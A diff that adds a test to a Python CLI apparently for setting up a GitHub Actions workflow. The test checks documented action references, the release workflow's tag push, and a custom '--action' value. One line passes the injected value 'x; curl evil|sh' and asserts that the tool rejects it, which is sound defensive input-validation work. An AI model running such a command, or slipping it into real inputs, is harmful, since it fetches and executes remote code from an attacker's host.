@@ -166,3 +166,16 @@ def test_names_from_a_manifest_never_reach_the_serve_line_unchecked(tmp_path):
         written = repo / "servegate.toml"
         assert not written.exists() or "pwned" not in written.read_text(), written.read_text()
     assert "target/release/fast-serve" in (tmp_path / "cargo" / "servegate.toml").read_text()
+
+
+def test_one_action_reference_everywhere_and_another_when_asked(tmp_path):
+    for text in ((REPO / "README.md").read_text(), (REPO / "docs" / "ci.md").read_text()):
+        assert "servegate/servegate@v1" in text and "OWNER/servegate@v1" not in text
+    release = (REPO / ".github" / "workflows" / "release.yml").read_text()
+    assert 'git push -f origin "refs/tags/$major"' in release  # v1 follows each v1.x.y
+    repo = shaped_repo(tmp_path / "cargo", SHAPES["cargo"])
+    out = cli("init", "--action", "team/servegate-fork@v1.2.0", cwd=repo)
+    assert out.returncode == 0, out.stderr
+    assert "uses: team/servegate-fork@v1.2.0" in (repo / WORKFLOW).read_text()
+    bad = cli("init", "--force", "--action", "x; curl evil|sh", cwd=repo)
+    one_line_error(bad, "is not OWNER/REPO@REF nor ./PATH")
